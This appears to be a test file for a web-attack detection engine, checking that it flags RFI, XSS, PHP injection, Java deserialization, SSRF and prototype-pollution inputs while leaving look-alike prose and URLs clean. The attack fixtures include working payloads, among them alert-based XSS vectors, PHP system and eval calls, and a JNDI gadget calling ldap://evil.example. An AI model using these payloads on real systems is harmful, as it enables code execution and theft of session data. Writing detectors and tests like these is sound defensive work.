import { test } from 'node:test';
import assert from 'node:assert/strict';
import { everywhere, exchange, inspect } from './helpers.js';
import { inspectExchange } from '../../src/detect/engine.js';

// RFI, XSS and PHP shapes beside their look-alikes. The helpers' requests go to host api.example.com.

const rules = (r: ReturnType<typeof inspect>): string => JSON.stringify(r.findings.map((f) => `${f.rule}:${f.score}@${f.location}`));

test('a URL that passes a careless check against the own host, and a Java archive URL to a remote host, are flagged', () => {
  const attacks = [
    'https://api.example.com.evil.example/',
    'http://api.example.com.attacker.net/callback',
    'jar:http://evil.example/x.jar!/',
  ];
  for (const a of attacks) {
    for (const r of everywhere(a)) assert.ok(inspect(r).attack, `${a} ${JSON.stringify(r).slice(0, 50)} → ${rules(inspect(r))}`);
  }
  // a glued prefix before a distinctive own host (endsWith checks): only when the host's first label is long enough
  const glued = (q: string, host: string) => {
    const ex = exchange({ query: q, headers: { host } });
    ex.request.host = host;
    return inspectExchange(ex, {});
  };
  assert.ok(glued('next=https://evilexample.com/', 'example.com').attack);
  // the own host on another port: paranoia 2
  assert.ok(inspect({ query: 'url=http://api.example.com:6379/' }, { paranoia: 2 }).attack);
});

test('own-host URLs, CDN names and other sites in ordinary fields stay clean', () => {
  const benign = [
    'https://api.example.com/v1/items?page=2',
    'https://api.example.com:443/v1/items',
    'https://api.example.com:3000/auth/callback',
    'https://www.api.example.com/',
    'https://api.example.com.s3.amazonaws.com/logo.png',
    'https://api.example.com.edgekey.net/',
    'https://api.example.com.au/v1/items',
    'https://partner.example/page',
    'https://evilapi.example.com/',
    'The app fails with: cannot open jar:file:/opt/app/lib/core.jar!/META-INF/spring.factories',
  ];
  for (const b of benign) {
    for (const r of everywhere(b)) assert.equal(inspect(r).attack, false, `${b} → ${rules(inspect(r))}`);
  }
  assert.equal(inspect({ query: 'next=https://foxnews.com/', headers: { host: 'news.com' } }).attack, false);
});

test('PHP calls spelled to evade, PHP-only extension calls as the whole value or last path segment, variable variables', () => {
  const attacks = ["'.system('id').'", '".shell_exec(\'id\')."', "'.passthru($_GET[c]).'", 'subSTR($x)', 'unPACK($_GET[1])', 'ZlIb_DeCoDe($p)', 'sYsTeM(id)', 'array_diff (', 'pg_enter_pipeline_mode (', 'sodium_crypto_box_keypair()', 'odbc_exec($c, $q)', '${$a}', '$ { $name }', 'unserialize_max_depth=0'];
  for (const a of attacks) {
    for (const r of everywhere(a)) assert.ok(inspect(r).attack, `${a} ${JSON.stringify(r).slice(0, 50)} → ${rules(inspect(r))}`);
  }
  for (const p of ['/get/array_diff (', '/api/pg_enter_pipeline_mode(', '/post/subSTR($x)']) assert.ok(inspect({ path: p }).attack, p);
});

test('camelCase and Title Case calls, snake_case calls of other languages and prices in braces stay clean', () => {
  const benign = ['re.exec(text)', "the 'x'.system design doc", 'readFile(path)', 'getElementById(id)', 'parseHTML(text)', 'get_user()', 'is_valid()', 'set_config(debug)', 'Price: $ {price}', 'Total ${amount}', 'the array_diff function compares arrays, see the manual'];
  for (const b of benign) {
    for (const r of everywhere(b)) assert.equal(inspect(r).attack, false, `${b} → ${rules(inspect(r))}`);
  }
});

test('an element written in 8-bit form (¼x¾…¼/x¾) is XSS for a page read as US-ASCII; fractions in a recipe are not', () => {
  const form = (bytes: string) => inspect({ body: `test=${bytes}`, contentType: 'application/x-www-form-urlencoded' });
  assert.ok(form('\xbctest\xbetest(\xa2XSS\xa2)\xbc/test\xbe').attack);
  assert.ok(form('\xbcmarquee\xbeHi\xbc/marquee\xbe').attack);
  assert.equal(form('Add \xbc cup sugar and \xbe cup flour, then \xbc/2 of the butter').attack, false);
});

test('developer prose that names code (README paragraphs) stays clean; the same code as a payload does not', () => {
  const prose = [
    '# Details\n * Dependencies: [@types/node](https://npmjs.com/package/@types/node)',
    'This package is maintained as part of `@typescript-eslint/parser` and the rest of the tooling.',
    'This avoids rebuilding an Ajv instance and compiling their schemas at runtime. The\ngenerated module still requires `fast-json-stringify`.',
    'The boot sequence starts when `.start()` or `.ready()` is called.',
    'For both `resolve()` and `import()`, you can pass in package names and filenames.',
    '- `options`: `<Object>` Cache options. Under the bonnet the module uses a small LRU cache for lookups.',
    '- `options` __\\<object\\>__ - optional options for the resolver, passed on to every keyword it merges',
    '- [Public Key Import (SPKI)](docs/key/import/functions/importSPKI.md) imports a key from its encoded form in the document',
    'Then open `http://127.0.0.1:3000` in your browser. The demo lets you upload files and inspect the headers.',
    'Accepting not just an array (eg. process.argv), but a string or object as well, making things like testing much easier.',
    'Exactly the same way as node\'s [`spawn`](https://nodejs.org/api/child_process.html) works, with the same arguments.',
    'Available also for **[PHP](./php/flatted.php)**.',
    'Strings are quoted as "yes", "no" and so on, as YAML 1.1 requires.\n- `replacer` - callback `function (key, value)` called recursively on each key/value in the source object.',
    'The package provides two drop-ins functions, `realRequire` and `realImport`,\nwhich can be used in scenarios where tools like transpilers or bundlers change\nthe native `require` or `await import` calls.',
    'Accepts a single `set-cookie` header value, an array of `set-cookie` header values, a Node.js response object, or a `fetch()` `Response` object that may have 0 or more `set-cookie` headers.',
    'Set to `true` to ignore all `eval()` calls (which would normally create scopes) in the analysis of the file.',
  ];
  for (const p of prose) {
    const r = inspect({ body: JSON.stringify({ author: 'sam', body: p }), contentType: 'application/json' });
    assert.equal(r.attack, false, `${p.slice(0, 60)} → ${rules(r)}`);
  }
  const payloads = [
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}',
    'Runtime.getRuntime().exec("id")',
    'new ProcessBuilder("id").start()',
    '<object data="javascript:alert(1)">',
    'nice post <svg onload=alert(1)> thanks for writing it up',
    'Great article, thanks for sharing it with all of us here"; alert(document.cookie); // and more',
    "I really liked this one and will share it with friends soon '-alert(1)-' ok",
    'http://127.0.0.1:8080/admin',
    'process.mainModule.require("child_process").execSync("id")',
    '[php]echo 1;[/php]',
    'eval($_POST[1])',
  ];
  for (const p of payloads) {
    for (const r of everywhere(p)) assert.ok(inspect(r).attack, `${p} ${JSON.stringify(r).slice(0, 50)} → ${rules(inspect(r))}`);
  }
});

test('calls through an empty name or subscript read no function, and an SVG image document is a picture', () => {
  for (const v of ['${}()', '$a[]()', '$a{}()', '<?xml version="1.0"?><svg></svg>', '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>', '<svg width="24" height="24" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z"/></svg>']) {
    for (const r of everywhere(v)) assert.equal(inspect(r).attack, false, `${v} → ${rules(inspect(r))}`);
  }
  for (const v of ['$a[0]()', '$_GET[0]($_GET[1])', '${"sys"."tem"}("id")', '<?xml version="1.0"?><svg onload="alert(1)"></svg>', '<?xml version="1.0"?><svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', '<svg width=100 onload=alert(1)>', '<svg viewBox="0 0 1 1"><script>alert(1)</script></svg>', '<svg width="1"><set attributeName="href" to="javascript:alert(1)"/></svg>']) {
    for (const r of everywhere(v)) assert.ok(inspect(r).attack, `${v} → ${rules(inspect(r))}`);
  }
});

test('a built-in prototype assigned as the whole value is pollution; talking about it or calling its methods is not', () => {
  for (const v of ['Object.prototype.polluted=1', 'Object.prototype["isAdmin"] = true', 'Array.prototype.includes = function(){return true}']) {
    for (const r of everywhere(v)) assert.ok(inspect(r).attack, `${v} → ${rules(inspect(r))}`);
  }
  for (const v of ['Object.prototype.hasOwnProperty.call(obj, key)', 'Object.prototype.toString === "[object Array]"', 'Never assign Object.prototype.foo = 1 in library code']) {
    for (const r of everywhere(v)) assert.equal(inspect(r).attack, false, `${v} → ${rules(inspect(r))}`);
  }
});

test('a sink call between the operators that chain it into a script expression is XSS; prose with a dash is not', () => {
  for (const v of ['-alert(1)-', ';alert(1)//', '+prompt(document.domain)+', '*confirm(1)*']) {
    for (const r of everywhere(v)) assert.ok(inspect(r).attack, `${v} → ${rules(inspect(r))}`);
  }
  for (const v of ['- Alert(s) -', '-foo(1)-', 'x - alert(1) - y', '- confirm your order -']) {
    for (const r of everywhere(v)) assert.equal(inspect(r).attack, false, `${v} → ${rules(inspect(r))}`);
  }
});
